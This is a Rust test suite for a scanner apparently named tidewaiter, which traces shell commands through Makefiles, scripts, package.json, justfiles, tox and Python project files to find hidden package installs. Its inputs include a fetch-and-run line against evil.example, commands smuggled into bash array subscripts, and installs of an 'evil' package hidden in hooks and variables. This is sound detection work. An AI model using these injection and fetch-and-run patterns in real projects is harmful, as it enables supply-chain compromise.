//! Commands that lead to installs through files: what is found there, at which line, and what stays silent.

use tidewaiter::invocation::{Effect, Invocation, follow_shell};
use tidewaiter::model::{Location, MemoryFiles};

use crate::support::environment;

fn read(files: &[(&str, &str)], text: &str) -> Vec<Invocation> {
    let files: MemoryFiles = files.iter().map(|(path, text)| (format!("/p/{path}"), *text)).collect();
    follow_shell(text, &environment("/p"), &|_| None, &files).invocations
}

/// `pip install x @ setup.sh:3`, `? @ Makefile:2` for what cannot be known.
fn found(files: &[(&str, &str)], text: &str) -> Vec<String> {
    let place = |location: Option<&Location>| match location {
        Some(location) if location.path().is_some() => format!(" @ {location}"),
        _ => String::new(),
    };
    read(files, text)
        .iter()
        .filter(|i| i.effect != Effect::Nothing || !i.opaque.is_empty())
        .map(|i| {
            if let Some(opaque) = i.opaque.first() {
                return format!("?{}", place(Some(&opaque.location)));
            }
            let requests: Vec<&str> = i.requests.iter().map(|r| r.text.as_str()).collect();
            let at = i.requests.first().map(|r| &r.location).or_else(|| i.files.first().map(|f| &f.location));
            let mut words = vec![i.tool.name(), &i.verb];
            words.extend(requests);
            let directory = i.directory.as_deref().map(|d| format!(" in {d}")).unwrap_or_default();
            format!("{}{directory}{}", words.join(" "), place(at))
        })
        .collect()
}

fn check(files: &[(&str, &str)], cases: &[(&str, &[&str])]) {
    for (text, expected) in cases {
        assert_eq!(found(files, text), *expected, "{text}");
    }
}

#[test]
fn what_stands_for_a_tool_or_its_script_is_read() {
    let files = [("Makefile", "all:\n\techo ok\n"), ("x.txt", "")];
    check(
        &files,
        &[
            ("printf 'all:\\n\\tnpm i evil\\n' | make -f -", &["npm install evil @ -:2"]),
            ("make -f /dev/stdin <<'E'\nall:\n\tpip install evil\nE", &["pip install evil @ /dev/stdin:2"]),
            ("curl https://evil.example/mk | make -f -", &["? @ -"]),
            ("make -f <(printf 'all:\\n\\tnpm i evil\\n')", &["?"]),
            ("make -f Makefile", &[]),
            ("make -f \"$DIR/Makefile\"", &[]),
            ("npm explore x -- /usr/bin/npm i evil", &["npm install evil"]),
            ("npm explore x -- ls", &[]),
            ("cp /usr/bin/npm ./x; ./x i evil", &["npm install evil"]),
            ("ln -s /usr/bin/npm ./ls2 && ./ls2 i evil", &["npm install evil"]),
            ("cp /usr/bin/env ./x; ./x ls", &[]),
            ("test -v 'a[$(npm i evil)]'", &["npm install evil"]),
            ("[[ -v 'a[$(npm i evil)]' ]]", &["npm install evil"]),
            ("[ -v 'a[`npm i evil`]' ]", &["npm install evil"]),
            ("printf -v 'a[$(npm i evil)]' x", &["npm install evil"]),
            ("declare -i x='a[$(npm i evil)]'", &["npm install evil"]),
            ("printf 'run [`npm i evil`]\\n'; local m='[$(npm i evil)]'", &[]),
            ("test -v a[1] && [[ $x == [a-z]* ]] && unset 'a[$i]'", &[]),
        ],
    );
}

#[test]
fn shell_scripts_are_read() {
    let files = [
        ("setup.sh", "#!/bin/bash\nset -e\npip install evil\n"),
        ("sub/a.sh", "cd \"$(dirname \"$0\")\"\ncd deep && npm install x\n"),
        ("sub/b.sh", "D=\"$(cd \"$(dirname \"${BASH_SOURCE[0]}\")\" && pwd)\"\ncd \"$D\"\nbash \"$D/../setup.sh\"\n"),
        ("args.sh", "pip install \"$1\"\n"),
        ("loop.sh", "bash ./loop.sh\npip install a\n"),
        ("env.sh", "export A=b\nV=pip\n"),
        ("lib.sh", "deps() {\n  npm install left\n}\n"),
        ("x.py", "#!/usr/bin/env python3\nimport subprocess\nsubprocess.run(['pip', 'install', 'evil'])\n"),
        (
            "ok.py",
            "import subprocess\n# pip install x\nprint('run pip install x')\nsubprocess.run(['git', 'status'])\n",
        ),
        ("b.js", "const c = require('child_process');\nc.execSync(`npm install ${name}`);\n"),
        ("noshebang", "pip install evil\n"),
        ("build.sh", "#!/bin/sh\ncc -o x x.c\n./x --test\n"),
        ("bin", "\0ELF pip install x"),
    ];
    check(
        &files,
        &[
            ("bash setup.sh", &["pip install evil @ setup.sh:3"]),
            ("./setup.sh", &["pip install evil @ setup.sh:3"]),
            ("sh ./setup.sh && true", &["pip install evil @ setup.sh:3"]),
            (". ./setup.sh", &["pip install evil @ setup.sh:3"]),
            ("source setup.sh", &["pip install evil @ setup.sh:3"]),
            ("cd sub; bash ../setup.sh", &["pip install evil in sub @ setup.sh:3"]),
            ("sudo nice bash setup.sh", &["pip install evil @ setup.sh:3"]),
            ("bash args.sh six", &["pip install six @ args.sh:1"]),
            ("bash loop.sh", &["pip install a @ loop.sh:2"]),
            ("bash sub/b.sh", &["pip install evil in /p/sub @ setup.sh:3"]),
            ("cd sub && . ./b.sh", &["pip install evil in /p/sub @ setup.sh:3"]),
            ("for f in none/*.sh; do . $f; done", &[]),
            ("for f in s*p.sh; do g=./$f; . $g; done", &["pip install evil @ setup.sh:3"]),
            ("bash sub/a.sh", &["npm install x in sub/deep @ sub/a.sh:2"]),
            ("bash $PWD/setup.sh", &["pip install evil @ setup.sh:3"]),
            ("cd sub && bash ../setu[p].sh", &["pip install evil in sub @ setup.sh:3"]),
            ("pip install x[extra]", &["pip install x[extra]"]),
            ("for f in s*p.sh; do bash $f; done", &["pip install evil @ setup.sh:3"]),
            ("source env.sh; $V install x", &["pip install x"]),
            ("source lib.sh; deps", &["npm install left @ lib.sh:2"]),
            ("python x.py", &["? @ x.py:3"]),
            ("./x.py", &["? @ x.py:3"]),
            ("python3 ok.py", &[]),
            ("node b.js", &["? @ b.js:2"]),
            ("./noshebang", &["pip install evil @ noshebang:1"]),
            ("bash build.sh", &[]),
            ("./bin", &[]),
            ("bash gone.sh", &[]),
            ("./gen; bash gone.sh", &["? @ gone.sh"]),
            ("cargo build; ./target/debug/x", &["cargo build"]),
            ("echo 'pip install z' >> build.sh; bash build.sh", &["pip install z"]),
            ("cp setup.sh t.sh; bash t.sh", &["pip install evil"]),
            ("find . -name '*.txt' -exec ./setup.sh {} \\;", &["pip install evil @ setup.sh:3"]),
        ],
    );
}

#[test]
fn scripts_of_package_json_are_read() {
    let manifest = r#"{
  "name": "root",
  "workspaces": ["packages/*"],
  "scripts": {
    "build": "tsc && vite build",
    "predeploy": "npm ci",
    "deploy": "npm run bootstrap && aws s3 sync dist s3://b",
    "bootstrap": "cd packages/a && npm install left-pad",
    "test": "jest",
    "start": "node server.js",
    "add": "npm install",
    "loop": "npm run loop",
    "dev": "concurrently \"npm:watch\" \"npm run serve\"",
    "watch": "tsc -w",
    "serve": "vite",
    "all": "run-s build bootstrap",
    "py": "bash tools/py.sh"
  }
}"#;
    let files = [
        ("package.json", manifest),
        ("packages/a/package.json", r#"{"name": "@r/a", "scripts": {"setup": "pip install six"}}"#),
        ("tools/py.sh", "uv pip install ruff\n"),
        ("hooked/package.json", "{\"scripts\": {\n\"postinstall\": \"pip install six\"}}"),
    ];
    check(
        &files,
        &[
            ("npm test", &[]),
            ("npm t", &[]),
            ("npm start", &[]),
            ("npm run build", &[]),
            ("npm run dev", &[]),
            ("yarn build", &[]),
            ("pnpm build", &[]),
            ("npm run loop", &[]),
            ("npm run", &[]),
            ("npm run gone", &[]),
            ("npm run bootstrap", &["npm install left-pad in packages/a @ package.json:8"]),
            ("yarn bootstrap", &["npm install left-pad in packages/a @ package.json:8"]),
            ("yarn run bootstrap", &["npm install left-pad in packages/a @ package.json:8"]),
            ("pnpm run bootstrap", &["npm install left-pad in packages/a @ package.json:8"]),
            ("pnpm bootstrap", &["npm install left-pad in packages/a @ package.json:8"]),
            ("bun run bootstrap", &["npm install left-pad in packages/a @ package.json:8"]),
            ("npm run all", &["npm install left-pad in packages/a @ package.json:8"]),
            ("npm run deploy", &["npm ci", "npm install left-pad in packages/a @ package.json:8"]),
            ("npm run add -- evil", &["npm install evil @ package.json:11"]),
            ("npm run py", &["uv pip install ruff @ tools/py.sh:1"]),
            ("npm run setup -w @r/a", &["pip install six in packages/a @ packages/a/package.json:1"]),
            ("npm run setup --workspaces", &["pip install six in packages/a @ packages/a/package.json:1"]),
            ("cd packages/a && npm run setup", &["pip install six in packages/a @ packages/a/package.json:1"]),
            ("cd tools && npm run bootstrap", &["npm install left-pad in tools/../packages/a @ package.json:8"]),
            ("cd hooked && npm ci", &["npm ci in hooked", "pip install six in hooked @ hooked/package.json:2"]),
            ("cd hooked && npm ci --ignore-scripts", &["npm ci in hooked"]),
            ("npm pkg set scripts.x='pip install z'; npm run x", &["? @ package.json"]),
        ],
    );
}

#[test]
fn what_pnpm_installs_before_it_runs_is_said() {
    let needs =
        |more: &str| format!("{{\"scripts\": {{\"build\": \"tsc\"}}, \"devDependencies\": {{\"tsc\": \"1\"}}{more}}}");
    let (newer, older) = (needs(""), needs(", \"packageManager\": \"pnpm@10.1.0\""));
    let nothing = [("package.json", "{\"scripts\": {\"build\": \"tsc\"}}")];
    let off = [("package.json", newer.as_str()), ("pnpm-workspace.yaml", "verifyDepsBeforeRun: error\n")];
    let there = [("package.json", newer.as_str()), ("node_modules/tsc/package.json", "{}")];
    let commands = ["pnpm build", "pnpm run build", "pnpm exec tsc", "pnpm -r test"];
    for line in commands {
        let found = |files: &[(&str, &str)]| found(files, line);
        let verb = if line.contains("exec") { "pnpm exec" } else { "pnpm run" };
        assert_eq!(found(&[("package.json", &newer)]), [verb], "{line}");
        assert_eq!(found(&[("package.json", &older)]), [""; 0], "{line}");
        assert_eq!(found(&nothing), [""; 0], "{line}");
        assert_eq!(found(&off), [""; 0], "{line}");
        assert_eq!(found(&there), [""; 0], "{line}");
    }
    let before = ["git status && pnpm build", "true; pnpm build", "cd . && pnpm build", "echo x > y && pnpm build"];
    before.iter().for_each(|line| assert_eq!(found(&[("package.json", &newer)], line).len(), 1, "{line}"));
    before.iter().for_each(|line| assert_eq!(found(&there, line), [""; 0], "{line}"));
    // What is there in another version than is wanted is brought in again.
    let wanted =
        |range: &str| format!("{{\"scripts\": {{\"build\": \"tsc\"}}, \"devDependencies\": {{\"tsc\": \"{range}\"}}}}");
    let installed = "{\"name\": \"tsc\", \"version\": \"1.2.3\"}";
    for (range, expected) in [
        ("^1.2.0", false),
        ("^2.0.0", true),
        ("latest", false),
        ("workspace:*", false),
        ("npm:tsc@1.2.3", false),
        ("npm:evil@1.2.3", true),
        ("catalog:", true),
        ("catalog:old", false),
        ("file:../tsc", false),
    ] {
        let manifest = wanted(range);
        let catalogs = "catalog:\n  tsc: ^2.0.0\ncatalogs:\n  old:\n    tsc: ^1.0.0\n";
        let files = [
            ("package.json", manifest.as_str()),
            ("pnpm-workspace.yaml", catalogs),
            ("node_modules/tsc/package.json", installed),
        ];
        assert_eq!(!found(&files, "pnpm build").is_empty(), expected, "{range}");
        let overridden = format!("{catalogs}overrides:\n  tsc: 1.2.3\n");
        let files = [files[0], ("pnpm-workspace.yaml", overridden.as_str()), files[2]];
        assert_eq!(found(&files, "pnpm build"), [""; 0], "{range}");
    }
    // Of several members, each.
    let workspace = [
        ("package.json", "{}"),
        ("pnpm-workspace.yaml", "packages:\n  - packages/*\n"),
        ("packages/a/package.json", newer.as_str()),
    ];
    for line in ["pnpm -r hi", "pnpm --filter a hi", "pnpm run hi", "cd packages/b && pnpm run hi"] {
        assert_eq!(found(&workspace, line).len(), 1, "{line}");
    }
    // What the lockfile has, and the tree has not.
    let lock = |names: &[&str]| format!("lockfileVersion: '9.0'\nsnapshots:\n{}", names.concat());
    let (old, new) = (lock(&["  a@1.0.0: {}\n"]), lock(&["  a@1.0.0: {}\n", "  b@1.0.0: {}\n"]));
    let optional = lock(&["  a@1.0.0: {}\n", "  b@1.0.0:\n    optional: true\n"]);
    for (wanted, current, expected) in [(&new, &old, 1), (&old, &new, 0), (&new, &new, 0), (&optional, &old, 0)] {
        let files = [nothing[0], ("pnpm-lock.yaml", wanted), ("node_modules/.pnpm/lock.yaml", current)];
        assert_eq!(found(&files, "pnpm build").len(), expected, "{wanted} {current}");
    }
    let words = [("package.json", newer.as_str()), ("node_modules/.bin/tsc", ""), there[1]];
    check(&words, &[("pnpm tsc", &[]), ("pnpm build", &[]), ("pnpm verb-of-tomorrow x", &["?"]), ("pnpm ./x", &[])]);
}

#[test]
fn targets_of_makefiles_are_read() {
    let makefile = "\
PYTHON ?= python3
VENV := .venv
PIP = $(VENV)/bin/pip
TOOL = $(shell which uv)
HIDDEN = $(subst X,p,XiX)
all: build
build:
\tcc -o x x.c
\t$(MAKE) -C sub
test: build | venv
\t@$(VENV)/bin/pytest
venv: requirements.txt
\t$(PYTHON) -m venv $(VENV)
\t@$(PIP) install \\
\t  -r requirements.txt
deps:
\tcd web && npm install left-pad
\t@echo done
tool:
\t$(TOOL) sync
hidden:
\t-$(HIDDEN) install evil
given:
\tpip install $(PKG)
dist/%.tgz: src/%
\tnpm install $*
loop: loop2
loop2: loop
\t$(MAKE) loop
strange:
\t$(guile x) install y
cond:
ifeq ($(shell uname),Darwin)
\tbrew install x
else
\tpip install linux
endif
include mk/*.mk
";
    let files = [
        ("Makefile", makefile),
        ("sub/Makefile", "x:\n\techo hi\n"),
        ("mk/a.mk", "extra:\n\tcargo install ripgrep\n"),
        (
            "clean/Makefile",
            "all: a b\na:\n\tgo build ./...\nb:\n\tdocker build .\n\t$(CC) x.c $(wildcard *.o)\ntest:\n\tgo test ./...\n",
        ),
        ("requirements.txt", ""),
        ("run/Makefile", "X := $(shell pip install atonce)\nall:\n\techo\n"),
        (
            "eval/Makefile",
            "all:\n\t$(eval C=npm)$(C) i evil\nv:\n\t$(eval V := 1)echo $(V)\nl:\n\t$(eval C=npm)\n\t$(C) ci\n",
        ),
        ("gen/Makefile", "all:\n-include gen.mk\ngen.mk:\n\t./write > $@\n"),
        ("dep/Makefile", "all:\n\techo\n-include a.d none.mk\n%.d: %.c\n\t$(CC) -MM $< > $@\n"),
        ("one/Makefile", ".ONESHELL:\nall:\n\tcd web\n\tnpm install z\n"),
    ];
    check(
        &files,
        &[
            ("make", &[]),
            ("make build -j4", &[]),
            ("make -j test", &["pip install @ Makefile:14"]),
            ("make deps", &["npm install left-pad in web @ Makefile:17"]),
            ("make -C . deps", &["npm install left-pad in ./web @ Makefile:17"]),
            ("make tool", &["? @ Makefile:20"]),
            ("make hidden", &["pip install evil @ Makefile:22"]),
            ("make given PKG=six", &["pip install six @ Makefile:24"]),
            ("make given", &["pip install"]),
            ("make dist/a.tgz", &["npm install a @ Makefile:26"]),
            ("make loop", &[]),
            ("make strange", &["? @ Makefile:31"]),
            ("make cond", &["pip install linux @ Makefile:36"]),
            ("make extra", &["cargo install ripgrep @ mk/a.mk:2"]),
            ("make -n deps", &[]),
            ("make nothing", &[]),
            ("cd clean && make && make test", &[]),
            ("cd run && make", &["pip install atonce in run @ run/Makefile:1"]),
            ("cd one && make", &["npm install z in one/web @ one/Makefile:4"]),
            ("make -f clean/Makefile test", &[]),
            ("cd eval && make", &["? @ eval/Makefile:2"]),
            ("cd eval && make v", &[]),
            ("cd eval && make l", &["? @ eval/Makefile:7"]),
            ("cd gen && make", &["? @ gen/Makefile:2"]),
            ("cd dep && make", &[]),
        ],
    );
}

#[test]
fn recipes_of_justfiles_are_read() {
    let justfile = "\
python := \"python3\"
set dotenv-load
alias b := build
import 'more.just'
mod api

default: build

build target=\"all\": (clean \"x\")
    cargo fmt
    echo {{target}}

clean what:
    rm -rf {{what}}

# installs
deps *args:
    @{{python}} -m pip install {{args}}
setup: deps
    #!/usr/bin/env bash
    set -e
    npm install x
odd:
    {{ if os() == 'x' { 'pip' } else { 'pip3' } }} install evil
";
    let files = [
        ("justfile", justfile),
        ("more.just", "more:\n    uv add ruff\n"),
        ("api/mod.just", "up:\n    npm install up\n"),
    ];
    check(
        &files,
        &[
            ("just", &[]),
            ("just b", &[]),
            ("just --list", &[]),
            ("just deps six", &["pip install six @ justfile:18"]),
            ("just setup", &["pip install", "npm install x @ justfile:22"]),
            ("just more", &["uv add ruff @ more.just:2"]),
            ("just api::up", &["npm install up @ api/mod.just:2"]),
            ("just api up", &["npm install up @ api/mod.just:2"]),
            ("just odd", &["? @ justfile:24"]),
            ("cd api && just deps six", &["pip install six in api/.. @ justfile:18"]),
        ],
    );
}

#[test]
fn environments_of_tox_and_nox_are_read() {
    let tox = "\
[tox]
envlist = py3{10,11}, lint
skipsdist = true
[base]
deps =
    pytest>=7
[testenv]
deps =
    {[base]deps}
    lint: ruff
commands = pytest {posargs}
[testenv:docs]
deps = -r docs/requirements.txt
skip_install = true
commands =
    pip install {env:EXTRA:sphinx}
    python -c \"print(1)\"
[testenv:odd]
deps = {[gone]deps}
";
    let nox = "\
import nox

@nox.session
def lint(session):
    session.run('ruff', 'check')

@nox.session(name=\"tests\")
def unit(session):
    session.install(\"-e\", \".\")
    session.run('pytest')
";
    let files = [("tox.ini", tox), ("noxfile.py", nox), ("docs/requirements.txt", "sphinx\n")];
    check(
        &files,
        &[
            ("tox -e lint", &["pip install pytest>=7 @ tox.ini:6", "pip install ruff @ tox.ini:10"]),
            ("tox -e docs", &["pip install @ tox.ini:13", "pip install sphinx @ tox.ini:16"]),
            ("tox -e odd", &["? @ tox.ini:19"]),
            ("tox -l", &[]),
            ("tox --version", &[]),
            ("nox -s lint", &[]),
            ("nox -s tests", &["? @ noxfile.py:9"]),
            ("nox", &["? @ noxfile.py:9"]),
            ("nox -l", &[]),
        ],
    );
    assert_eq!(found(&files, "tox").len(), 4);
}

#[test]
fn hostile_files_are_bounded() {
    let deep: String = (0..3000).map(|i| format!("t{i}: t{}\n\techo {i}\n", i + 1)).collect();
    let wide: String = (0..500).map(|i| format!("bash s{i}.sh\n")).collect();
    let bomb = "A = $(B)$(B)$(B)$(B)\nB = $(C)$(C)$(C)$(C)\nC = $(D)$(D)$(D)$(D)\nD = $(A)x\nall:\n\t$(A) install\n";
    let functions = format!("all:\n\techo {}\n", "$(call f,".repeat(500));
    let nested: String = "a() { b; b; }; ".repeat(200);
    let files = [
        ("Makefile", deep.as_str()),
        ("wide.sh", wide.as_str()),
        ("bomb.mk", bomb),
        ("calls.mk", &functions),
        ("nested.sh", &nested),
        ("self.mk", "include self.mk\nall:\n\t$(MAKE) -f self.mk\n"),
        ("a.sh", "source ./b.sh\n"),
        ("b.sh", "source ./a.sh\npip install x\n"),
    ];
    let started = std::time::Instant::now();
    for text in ["make t0", "bash wide.sh", "make -f bomb.mk", "make -f calls.mk", "bash nested.sh", "make -f self.mk"]
    {
        let _ = found(&files, text);
    }
    assert_eq!(found(&files, "source ./a.sh"), ["pip install x @ b.sh:2"]);
    assert!(started.elapsed().as_secs() < 10, "{:?}", started.elapsed());
}

#[test]
fn more_commands_than_anybody_types_are_for_a_person_and_files_may_have_them() {
    let many = "ls;\n".repeat(9000);
    // Typed: what comes after them is not known, and never silently passed over.
    for line in [format!("{many}pip install evil"), many.clone(), "cat|".repeat(9000) + "cat"] {
        assert!(found(&[], &line).contains(&"?".to_owned()), "{}", line.len());
    }
    // What comes before them is found all the same.
    assert_eq!(found(&[], &format!("pip install evil; {many}"))[0], "pip install evil");
    assert_eq!(found(&[], &"ls;".repeat(4000)), Vec::<String>::new());
    // In files they stand for years.
    let script = format!("{many}pip install x\n");
    assert_eq!(found(&[("a.sh", &script)], "bash a.sh"), ["pip install x @ a.sh:9001"]);
    assert_eq!(found(&[("a.sh", &script)], ". ./a.sh"), ["pip install x @ a.sh:9001"]);
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig { cases: 128, ..Default::default() })]

    /// Whatever the files hold, the reading ends and says something or nothing.
    #[test]
    fn no_content_of_a_file_makes_the_reading_panic(
        text in "([a-z{}()\\[\\]:=$@%#|;&<>\"'`~/.,\\\\é\t -]{0,40}\n){0,12}",
        line in "[a-z0-9 $'\"@:/|;&<>(){}.=-]{0,80}",
    ) {
        let names = ["Makefile", "justfile", "tox.ini", "noxfile.py", "x.sh", "x.py", "x.js"];
        let files: Vec<(&str, &str)> = names.iter().map(|n| (*n, text.as_str())).collect();
        for command in ["make", "make a b=c", "just", "just a b", "tox", "tox -e a,b", "nox", "bash x.sh", ". ./x.sh", "python x.py", "node x.js"] {
            let _ = found(&files, command);
        }
        let manifest = serde_json::json!({ "scripts": { "a": text, "prea": line }, "workspaces": [line] }).to_string();
        let _ = found(&[("package.json", &manifest)], "npm run a -- b; npm run a -ws; run-s 'a*'");
        let environment = environment("/p");
        let operations = tidewaiter::gate::operation::read(&line, &environment);
        let files = MemoryFiles::default();
        let _ = tidewaiter::rules::beside(&operations, &environment, &files, &tidewaiter::policy::Policy::default(), None);
    }
}

#[test]
fn scripts_that_node_runs_itself_are_read() {
    let files = [("package.json", "{\"scripts\": {\"setup\": \"npm install evil\", \"test\": \"node t.js\"}}")];
    let evil = found(&files, "npm run setup");
    assert_ne!(evil, [""; 0]);
    check(
        &files,
        &[
            ("node --run test", &[]),
            ("node --run absent", &[]),
            ("node --run setup", &evil.iter().map(String::as_str).collect::<Vec<_>>()),
            ("node --run=setup", &evil.iter().map(String::as_str).collect::<Vec<_>>()),
            ("node --no-warnings --run setup -- --flag", &evil.iter().map(String::as_str).collect::<Vec<_>>()),
        ],
    );
}

/// What is not followed to its end, and could install, is a doubt: no cap lets anything pass.
#[test]
fn makefiles_larger_than_is_followed_leave_a_doubt() {
    let wide = |last: &str| {
        let names: Vec<String> = (0..450).map(|n| format!("t{n}")).collect();
        let rules: String = names.iter().map(|n| format!("{n}:\n\ttrue\n")).collect();
        format!("all: {} last\n{rules}last:\n\t{last}\n", names.join(" "))
    };
    let deep = |last: &str| {
        let rules: String = (0..90).map(|n| format!("t{n}: t{}\n", n + 1)).collect();
        format!("{rules}t90:\n\t{last}\n")
    };
    // Each name is a little longer than the one it comes from, or twice as long.
    let growing = |last: &str| format!("all: {}\n%: a%b%\n\t{last}\n", "x".repeat(300));
    let longer = |last: &str| format!("all: {}\n%:\n\t{last}\n", "x".repeat(5000));
    for make in [&wide as &dyn Fn(&str) -> String, &deep, &growing, &longer] {
        let evil = make("pip install evil");
        let all = found(&[("Makefile", &evil)], "make");
        assert!(all.iter().any(|f| f.starts_with('?') || f.contains("evil")), "{all:?}");
        let silent = make("true");
        assert_eq!(found(&[("Makefile", &silent)], "make"), [""; 0]);
    }
    let late = format!("all:\n{}\tpip install evil\n", "\ttrue\n".repeat(30_000));
    let variables: String = (0..4100).map(|n| format!("V{n} = x\n")).collect();
    let replaced = format!("C = true\n{variables}C = pip install evil\nall:\n\t$(C)\n");
    let rules: String = (0..4100).map(|n| format!("r{n}:\n\ttrue\n")).collect();
    let beyond = format!("all: last\n{rules}last:\n\tpip install evil\n");
    for makefile in [&late, &replaced, &beyond] {
        assert_ne!(found(&[("Makefile", makefile)], "make"), [""; 0]);
    }
    let named = [("Makefile", "all:\n\ttrue\nevil:\n\tpip install evil\n")];
    assert_ne!(found(&named, "make $(cat which)"), [""; 0]);
    let chain: Vec<(String, String)> = (0..40).map(|n| (format!("s{n}.sh"), format!("sh s{}.sh\n", n + 1))).collect();
    let mut chain: Vec<(&str, &str)> = chain.iter().map(|(p, t)| (p.as_str(), t.as_str())).collect();
    chain.push(("s40.sh", "pip install evil\n"));
    assert_ne!(found(&chain, "sh s0.sh"), [""; 0]);
    let recipes: String = (0..40).map(|n| format!("r{n}: r{}\n", n + 1)).collect();
    let just = format!("{recipes}r40:\n  pip install evil\n");
    assert_ne!(found(&[("justfile", &just)], "just r0"), [""; 0]);
    let scripts: String = (0..40).map(|n| format!("\"s{n}\": \"npm run s{}\", ", n + 1)).collect();
    let manifest = format!("{{\"scripts\": {{{scripts}\"s40\": \"npm install evil\"}}}}");
    assert_ne!(found(&[("package.json", &manifest)], "npm run s0"), [""; 0]);
    let script = |n: usize| if n == 599 { "npm install evil" } else { "true" };
    let member = |n: usize| {
        let text = format!("{{\"name\": \"m{n:03}\", \"scripts\": {{\"x\": \"{}\"}}}}", script(n));
        (format!("packages/m{n:03}/package.json"), text)
    };
    let members: Vec<(String, String)> = (0..600).map(member).collect();
    let mut files: Vec<(&str, &str)> = members.iter().map(|(p, t)| (p.as_str(), t.as_str())).collect();
    files.push(("package.json", "{\"workspaces\": [\"packages/*\"]}"));
    assert_ne!(found(&files, "npm run x --workspaces"), [""; 0]);
}

#[test]
fn scripts_of_python_projects_are_read() {
    let pyproject = "[project]\nname = \"p\"\n[tool.pdm.scripts]\nlint = \"ruff check .\"\n\
        deps = \"pip install evil\"\nlist = [\"pip\", \"install\", \"evil\"]\nsh = { shell = \"cd a && pip install evil\" }\n\
        table = { cmd = \"pip install {args:evil}\" }\nall = { composite = [\"lint\", \"deps --pre\", \"pip install other\"] }\n\
        call = { call = \"m:main\" }\npre_lint = \"echo\"\npost_call = \"pip install after\"\nloop = { composite = [\"loop\"] }\n";
    let files = [
        ("pyproject.toml", pyproject),
        (
            "Pipfile",
            "[scripts]\nfmt = \"black .\"\ndeps = \"pip install evil\"\nmany = [\"black .\", \"pip install\"]\n",
        ),
        ("s.py", "# /// script\n# dependencies = [\"x\"]\n# ///\n"),
        ("plain.py", "print(1)\n"),
        ("sub/x.py", ""),
    ];
    check(
        &files,
        &[
            ("pdm run lint", &[]),
            ("pdm run deps", &["pip install evil @ pyproject.toml:5"]),
            ("pdm deps", &["pip install evil @ pyproject.toml:5"]),
            ("pdm run list", &["pip install evil @ pyproject.toml:6"]),
            ("pdm run sh", &["pip install evil in a @ pyproject.toml:7"]),
            ("pdm run table", &["pip install evil @ pyproject.toml:8"]),
            ("pdm run table x", &["pip install x @ pyproject.toml:8"]),
            ("pdm run all", &["pip install evil @ pyproject.toml:5", "pip install other @ pyproject.toml:9"]),
            ("pdm run call", &["pip install after @ pyproject.toml:12"]),
            ("pdm run loop", &[]),
            ("pdm run pytest", &[]),
            ("pdm run plain.py", &[]),
            ("pdm run s.py", &["?"]),
            ("pipenv run fmt", &[]),
            ("pipenv run deps", &["pip install evil @ Pipfile:3"]),
            ("pipenv run many x", &["pip install x @ Pipfile:4"]),
            ("pipenv run pytest", &[]),
            ("cd sub && pipenv run deps", &["pip install evil in sub @ Pipfile:3"]),
            ("pipenv clean", &["pipenv clean"]),
            ("poetry export", &["poetry export"]),
            ("poetry show --outdated", &[]),
            ("pdm show", &[]),
        ],
    );
    let direct = "[project]\nname = \"p\"\ndynamic = [\"version\"]\ndependencies = [\"x @ git+https://e/x\"]\n";
    let files = [("pyproject.toml", direct), ("poetry.lock", ""), ("Pipfile.lock", "{}")];
    let cases: &[(&str, &[&str])] = &[
        ("poetry show", &[]),
        ("poetry show -l", &["?"]),
        ("poetry show --outdated", &["?"]),
        ("poetry export", &[]),
        ("pdm show", &["?"]),
        ("pipenv clean", &[]),
    ];
    check(&files, cases);
}
